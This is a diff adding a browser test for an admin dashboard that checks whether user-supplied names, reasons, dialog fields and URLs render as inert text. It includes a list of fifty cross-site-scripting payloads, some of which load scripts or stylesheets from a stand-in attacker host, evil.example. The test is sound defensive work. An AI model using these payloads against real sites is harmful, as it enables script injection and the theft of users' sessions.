@@ -1,0 +1,154 @@
+/** UI-01: whatever somebody calls a thing, the dashboard shows it as text, and nothing of it runs. */
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+
+import { type Admin, openAdmin } from '../support/admin.ts';
+import {
+  type Chromium,
+  dialogOf,
+  goTo,
+  openChromium,
+  signIn,
+  type Viewer,
+} from '../support/chromium.ts';
+import { BASE, DEMO, type House, openHouse } from '../support/house.ts';
+
+const RUN = 'window.executed=1';
+
+const PAYLOADS: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `"><script>${RUN}</script>`,
+  `'><script>${RUN}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<img src=x onerror=${RUN}>`,
+  `<img src=x onerror="${RUN}">`,
+  `"><img src=x onerror=${RUN}>`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img srcset=x onerror=${RUN}>`,
+  `<image href=x onerror=${RUN}>`,
+  `<svg onload=${RUN}>`,
+  `<svg/onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><a href="javascript:${RUN}"><text>x</text></a></svg>`,
+  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
+  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
+  `<math href="javascript:${RUN}">x</math>`,
+  `<body onload=${RUN}>`,
+  `<iframe src="javascript:parent.executed=1"></iframe>`,
+  `<iframe srcdoc="<script>parent.executed=1</script>"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a href="java&#10;script:${RUN}">x</a>`,
+  `<form action="javascript:${RUN}"><button>x</button></form>`,
+  `<button formaction="javascript:${RUN}">x</button>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<select autofocus onfocus=${RUN}>`,
+  `<textarea autofocus onfocus=${RUN}>`,
+  `<details open ontoggle=${RUN}>x</details>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<audio src=x onerror=${RUN}>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<div style="background:url(javascript:${RUN})">x</div>`,
+  `<div style="animation-name:x" onanimationstart=${RUN}>x</div>`,
+  `<style>@import "//evil.example/x.css";</style>`,
+  `<link rel=stylesheet href="//evil.example/x.css">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<base href="//evil.example/">`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `javascript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `{{constructor.constructor("${RUN}")()}}`,
+  `\${${RUN}}`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `\u202e<img src=x onerror=${RUN}>\u200b`,
+];
+
+let house: House;
+let chromium: Chromium;
+let viewer: Viewer;
+
+const named = (text: string, index: number, done: Admin['done']): readonly Promise<unknown>[] => [
+  done('POST', 'tenants', { id: `t-${index}`, name: text }),
+  done('POST', 'teams', { id: `m-${index}`, tenant: 'acme', name: text }),
+  done('POST', 'users', { id: `u-${index}`, tenant: 'acme', name: text }),
+  done('POST', 'holds', { tenant: 'acme', user: text, reason: text }),
+  done('POST', 'content-leaves', { tenant: 'acme', reason: text }),
+  house.key({ name: text }),
+];
+
+before(async () => {
+  chromium = await openChromium();
+  house = await openHouse(`${DEMO}guards: []\n${BASE}`);
+  const { token, done } = await openAdmin(house);
+  // A few at once: the listener takes so many connections of one address and no more.
+  for (let first = 0; first < PAYLOADS.length; first += 5) {
+    const some = PAYLOADS.slice(first, first + 5);
+    await Promise.all(some.flatMap((text, index) => named(text, first + index, done)));
+  }
+  for (const text of PAYLOADS.slice(0, 1)) {
+    const login = `p-${PAYLOADS.indexOf(text)}@example.com`;
+    await done('POST', 'accounts', { login, role: 'viewer', name: text });
+  }
+  viewer = await chromium.view(house.adminUrl);
+  await signIn(viewer, token);
+});
+after(async () => {
+  await chromium?.close();
+  await house?.close();
+});
+
+const executed = async (): Promise<boolean> =>
+  await viewer.page.evaluate(() => Reflect.has(globalThis, 'executed'));
+
+test('UI-01: fifty names and reasons are shown as they were written, and nothing runs', async () => {
+  const { page } = viewer;
+  assert.equal(PAYLOADS.length, 50);
+  for (const title of ['Tenants', 'Teams', 'Users', 'Holds', 'Content', 'Keys', 'Accounts']) {
+    await goTo(viewer, title);
+    const cells = new Set(await page.locator('.data td').allTextContents());
+    const expected = title === 'Accounts' ? PAYLOADS.slice(0, 1) : PAYLOADS;
+    for (const text of expected) assert.ok(cells.has(text), `${title}: ${text}`);
+    assert.equal(await executed(), false, title);
+  }
+  assert.deepEqual(viewer.complaints, []);
+});
+
+test('UI-01: nor in the title of a dialog, in a field, in a filter or in an address', async () => {
+  const { page } = viewer;
+  await goTo(viewer, 'Keys');
+  for (const text of PAYLOADS.slice(0, 5)) {
+    await page.getByRole('searchbox').fill(text);
+    await page.getByRole('button', { name: `Edit: ${text}`, exact: true }).click();
+    await dialogOf(page)
+      .getByRole('heading', { name: `Edit ${text}` })
+      .waitFor();
+    assert.equal(await dialogOf(page).getByLabel('Name').inputValue(), text);
+    await page.keyboard.press('Escape');
+    await dialogOf(page).waitFor({ state: 'detached' });
+    const query = new URLSearchParams({ tenant: text, section: text, user: text });
+    const address = JSON.stringify(`./explain?${query.toString()}`);
+    await page.evaluate(`history.pushState(null, '', ${address});
+      dispatchEvent(new PopStateEvent('popstate'))`);
+    await page.getByRole('heading', { level: 1, name: 'Why can she?' }).waitFor();
+    await goTo(viewer, 'Keys');
+  }
+  assert.equal(await executed(), false);
+  assert.deepEqual(viewer.complaints, []);
+});
+
+test('UI-01: where a text would become markup after all, the browser refuses it', async () => {
+  const refused: unknown = await viewer.page.evaluate(`(() => {
+    try {
+      document.body.innerHTML = '<b>x</b>';
+      return false;
+    } catch {
+      return true;
+    }
+  })()`);
+  assert.equal(refused, true);
+});
